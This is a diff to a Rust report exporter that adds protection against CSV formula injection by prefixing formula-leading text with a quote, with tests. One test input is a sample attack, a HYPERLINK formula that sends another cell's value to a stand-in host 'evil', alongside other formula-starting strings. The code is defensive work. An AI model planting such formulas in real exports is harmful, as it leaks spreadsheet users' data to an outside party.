@@ -1,8 +1,10 @@
 //! A report's rows as its file's bytes: CSV by RFC 4180 (a header row,
 //! CRLF line ends, a field quoted when it holds a comma, a quote or a line
-//! end) or JSON Lines (an object per row, keyed by the same column names).
+//! end; free text that a spreadsheet would take for a formula led by `'`)
+//! or JSON Lines (an object per row, keyed by the same column names, as
+//! they are).
 
-use super::rows::Column;
+use super::rows::{Cell, Column};
 use crate::kinds::ReportFormat;
 use serde_json::Value;
 
@@ -10,7 +12,7 @@ use serde_json::Value;
 pub fn header(format: ReportFormat, columns: &[Column]) -> String {
     match format {
         ReportFormat::Csv => {
-            let mut out = columns.iter().map(|(name, _)| csv_field(name)).collect::<Vec<_>>().join(",");
+            let mut out = columns.iter().map(|(name, _, _)| csv_field(name)).collect::<Vec<_>>().join(",");
             out.push_str("\r\n");
             out
         }
@@ -23,18 +25,19 @@ pub fn line(format: ReportFormat, columns: &[Column], item: &Value, out: &mut St
     let value = |pointer: &str| item.pointer(pointer).unwrap_or(&Value::Null);
     match format {
         ReportFormat::Csv => {
-            for (i, (_, pointer)) in columns.iter().enumerate() {
+            for (i, (_, pointer, kind)) in columns.iter().enumerate() {
                 if i > 0 {
                     out.push(',');
                 }
-                out.push_str(&csv_field(&cell(value(pointer))));
+                let text = cell(value(pointer));
+                out.push_str(&csv_field(&if *kind == Cell::Text { defused(text) } else { text }));
             }
             out.push_str("\r\n");
         }
         ReportFormat::Jsonl => {
             // written by hand to keep the columns' order
             out.push('{');
-            for (i, (name, pointer)) in columns.iter().enumerate() {
+            for (i, (name, pointer, _)) in columns.iter().enumerate() {
                 if i > 0 {
                     out.push(',');
                 }
@@ -57,6 +60,13 @@ fn cell(v: &Value) -> String {
     }
 }
 
+/// Free text as a spreadsheet cannot run it: one that starts with what
+/// starts a formula (`=`, `+`, `-`, `@`, a tab, a carriage return) gets a
+/// leading `'`, which spreadsheets show as text (OWASP, CSV injection).
+fn defused(text: String) -> String {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{text}") } else { text }
+}
+
 fn csv_field(s: &str) -> String {
     if s.contains([',', '"', '\r', '\n']) { format!("\"{}\"", s.replace('"', "\"\"")) } else { s.to_string() }
 }
@@ -66,7 +76,7 @@ mod tests {
     use super::*;
     use serde_json::json;
 
-    const COLUMNS: &[Column] = &[("id", "/id"), ("name", "/customer/name"), ("n", "/n"), ("gone", "/gone")];
+    const COLUMNS: &[Column] = &[("id", "/id", Cell::Typed), ("name", "/customer/name", Cell::Text), ("n", "/n", Cell::Typed), ("gone", "/gone", Cell::Typed)];
 
     #[test]
     fn csv_quotes_what_rfc_4180_asks_and_leaves_nulls_empty() {
@@ -82,5 +92,28 @@ mod tests {
         let mut out = String::new();
         line(ReportFormat::Jsonl, COLUMNS, &json!({"id": "a", "customer": {"name": "Ö"}, "n": 1.5}), &mut out);
         assert_eq!(out, "{\"id\":\"a\",\"name\":\"Ö\",\"n\":1.5,\"gone\":null}\n");
+    }
+
+    #[test]
+    fn csv_free_text_that_would_start_a_formula_is_text_and_typed_columns_stay() {
+        let columns: &[Column] = &[("msisdn", "/msisdn", Cell::Typed), ("amount", "/amount", Cell::Typed), ("name", "/name", Cell::Text)];
+        for (typed, expected) in [
+            ("=HYPERLINK(\"https://evil/?\"&A2,\"x\")", "\"'=HYPERLINK(\"\"https://evil/?\"\"&A2,\"\"x\"\")\""),
+            ("+1+1", "'+1+1"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "\"'\r=1\""),
+            ("Acme = fine", "Acme = fine"),
+            ("'quoted", "'quoted"),
+        ] {
+            let mut out = String::new();
+            line(ReportFormat::Csv, columns, &json!({"msisdn": "+46701234567", "amount": -1200, "name": typed}), &mut out);
+            assert_eq!(out, format!("+46701234567,-1200,{expected}\r\n"), "{typed:?}");
+            // JSON Lines carry the text as it is
+            let mut out = String::new();
+            line(ReportFormat::Jsonl, columns, &json!({"msisdn": "+46701234567", "amount": -1200, "name": typed}), &mut out);
+            assert_eq!(out, format!("{{\"msisdn\":\"+46701234567\",\"amount\":-1200,\"name\":{}}}\n", json!(typed)));
+        }
     }
 }
